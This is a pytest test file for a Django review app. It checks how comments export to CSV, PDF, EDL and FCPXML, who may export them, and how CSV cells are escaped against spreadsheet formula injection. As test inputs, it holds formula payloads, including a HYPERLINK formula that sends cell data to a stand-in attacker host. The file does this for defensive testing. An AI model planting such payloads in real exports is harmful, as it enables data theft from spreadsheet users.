"""What was said, taken along as a table and a report, and who may take it."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from jobs.models import Version
from studio.organisations.models import User
from studio.projects.models import Project, Visibility
from studio.reviews.exports.material import of_version
from studio.reviews.exports.report import _register as register_fonts
from studio.reviews.exports.report import _words as report_words
from studio.reviews.exports.table import harmless
from studio.reviews.models import Comment
from tests.reviews.exporting import export, say
from tests.reviews.guests import make_link

type As = Callable[[User], Client]
KINDS = ("csv", "pdf", "edl", "fcpxml")


def rows(answer: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def test_every_comment_and_reply_is_a_row_with_its_frame(
    as_: As, version: Version, approver: User, teammate: User
) -> None:
    thread = say(version, approver, 42, "Zeile 1\nZeile 2, „ü“", last_frame=50, category="audio")
    say(version, teammate, 42, "Done", parent=thread)
    link, _ = make_link(version, approver)
    guest = link.guests.create(name="Grete", email="g@client.example")
    Comment.objects.create(version=version, guest=guest, frame=3, text="中文", is_shared=True)
    say(version, teammate, 9, "Gone", removed_at=timezone.now())
    first, second, third = rows(export(as_(approver), version, "csv"))
    assert (first["frame"], first["by"], first["guest"], first["comment"]) == (
        "3", "Grete", "yes", "中文",
    )  # fmt: skip
    assert (second["frame"], second["last frame"], second["timecode"]) == ("42", "50", "00:01:17")
    assert (second["comment"], second["input"]) == ("Zeile 1\nZeile 2, „ü“", "audio")
    assert (third["comment"], third["reply to"]) == ("Done", str(thread.pk))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "  =1", "\t=1", "\r=1"])
def test_no_cell_is_a_formula_to_a_spreadsheet(
    as_: As, version: Version, approver: User, text: str
) -> None:
    say(version, approver, 1, text)
    (row,) = rows(export(as_(approver), version, "csv"))
    inner = text[1:] if text[0] not in "\t\r" else f"'{text[1:]}"
    assert row["comment"] == f"'{text[0]}{inner}"
    assert harmless(-1) == -1


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("Nice\n=HYPERLINK(A1)", "Nice\n'=HYPERLINK(A1)"),
        ("Nice\r\n  @SUM(A1)", "Nice\r\n  '@SUM(A1)"),
        ("Nice;=1+1;more", "Nice;'=1+1;more"),
        ("Nice\t-1", "Nice\t'-1"),
        ("a - b; c = d, e-mail@home", "a - b; c = d, e-mail@home"),
    ],
)
def test_no_line_is_a_formula_where_a_spreadsheet_cuts_cells_elsewhere(
    as_: As, version: Version, approver: User, text: str, kept: str
) -> None:
    # Where the comma is in numbers (Germany, France), Excel cuts at semicolons and at every line.
    say(version, approver, 1, text)
    (row,) = rows(export(as_(approver), version, "csv"))
    assert row["comment"] == kept


def test_a_guests_name_is_no_formula_either(as_: As, version: Version, approver: User) -> None:
    link, _ = make_link(version, approver)
    name = '=HYPERLINK("https://evil.example?x="&A1,"Look")'
    guest = link.guests.create(name=name, email="e@client.example")
    Comment.objects.create(version=version, guest=guest, frame=3, text="x", is_shared=True)
    (row,) = rows(export(as_(approver), version, "csv"))
    assert row["by"] == f"'{name}"


def test_a_guest_by_a_members_name_is_a_guest_in_every_export(
    as_: As, version: Version, approver: User
) -> None:
    link, _ = make_link(version, approver)
    guest = link.guests.create(name="Mara", email="e@client.example")
    thread = say(version, approver, 3)
    Comment.objects.create(
        version=version, guest=guest, frame=3, text="Go", is_shared=True, parent=thread
    )
    browser = as_(approver)
    edl = export(browser, version, "edl").content.decode()
    assert "|M:Mara: Lips are late / Mara (guest): Go |D:1" in edl
    (marker,) = ET.fromstring(export(browser, version, "fcpxml").content).iter("marker")
    assert marker.get("value") == "Mara: Lips are late\nMara (guest): Go"
    (said,) = of_version(version).reviewed[0].said
    register_fonts()
    heads = [one.getPlainText() for one in report_words(said)]
    assert "Mara (guest) replied" in heads
    assert "00:00:03 · frame 3 · Mara · internal" in heads


def test_a_project_without_a_version_has_nothing_to_mark(
    as_: As, project: Project, approver: User
) -> None:
    browser = as_(approver)
    for kind in ("edl", "fcpxml"):
        answer = browser.get(reverse("export_project", args=[project.pk, kind]), follow=True)
        assert "nothing to mark" in answer.text
        by_script = browser.get(
            reverse("export_project", args=[project.pk, kind]),
            headers={"X-Requested-With": "XMLHttpRequest"},
        )
        assert (by_script.status_code, "nothing to mark" in by_script.text) == (422, True)
        storyboard = browser.get(reverse("storyboard", args=[project.pk]))
        assert "nothing to mark" not in storyboard.text


@pytest.mark.parametrize("kind", KINDS)
def test_only_those_who_may_read_the_comments_take_them_along(
    as_: As, version: Version, outsider: User, viewer: User, kind: str
) -> None:
    for thing in (version, version.clip.project):
        assert export(as_(outsider), thing, kind).status_code == 404
        assert export(Client(), thing, kind).url.startswith("/login/")
    Project.objects.filter(pk=version.clip.project_id).update(visibility=Visibility.MEMBERS)
    for thing in (version, version.clip.project):
        assert export(as_(viewer), thing, kind).status_code == 404


def test_another_kind_of_file_does_not_exist(as_: As, version: Version, approver: User) -> None:
    assert export(as_(approver), version, "exe").status_code == 404


def test_the_file_is_named_for_what_is_in_it(as_: As, version: Version, approver: User) -> None:
    answer = export(as_(approver), version, "csv")
    assert "Onboarding%202027%20-%20Welcome%20v1%20comments.csv" in answer["Content-Disposition"]


def test_an_export_takes_as_many_queries_for_many_comments_as_for_few(
    version: Version, approver: User, django_assert_num_queries: Callable[[int], Any]
) -> None:
    for n in range(40):
        say(version, approver, n)
    of_version(version)
    with django_assert_num_queries(1):
        assert len(of_version(version).reviewed[0].said) == 40
